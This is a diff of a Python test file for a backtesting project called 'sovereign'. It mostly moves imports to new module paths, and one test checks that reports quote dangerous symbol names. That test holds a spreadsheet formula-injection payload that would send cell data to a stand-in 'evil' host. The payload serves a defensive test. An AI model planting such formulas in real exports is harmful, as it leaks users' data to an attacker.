@@ -14,11 +14,11 @@ from pathlib import Path
 import numpy as np
 import pytest
 
-from sovereign import backtest as engine
-from sovereign import report
 from sovereign.config import from_dict
 from sovereign.core import NO_AGENT
-from sovereign.datafile import Market, write
+from sovereign.market.datafile import Market, write
+from sovereign.research import backtest as engine
+from sovereign.research import report
 from tests.test_backtest import sim_market
 
 CLI = [sys.executable, "-m", "sovereign.cli"]
@@ -81,7 +81,7 @@ def test_a_carriage_return_inside_text_cannot_start_a_row(tmp_path: Path) -> Non
 
 
 def test_a_backtest_over_a_symbol_named_like_a_formula_writes_it_quoted(tmp_path: Path) -> None:
-    """Data files refuse such names (sovereign.data); a Market built in code does not, and
+    """Data files refuse such names (sovereign.market.data); a Market built in code does not, and
     the report is the last line of defence."""
     name = '=HYPERLINK("http://evil/"&A1,"x")'
     m = sim_market(1, 60_000, seed=7)
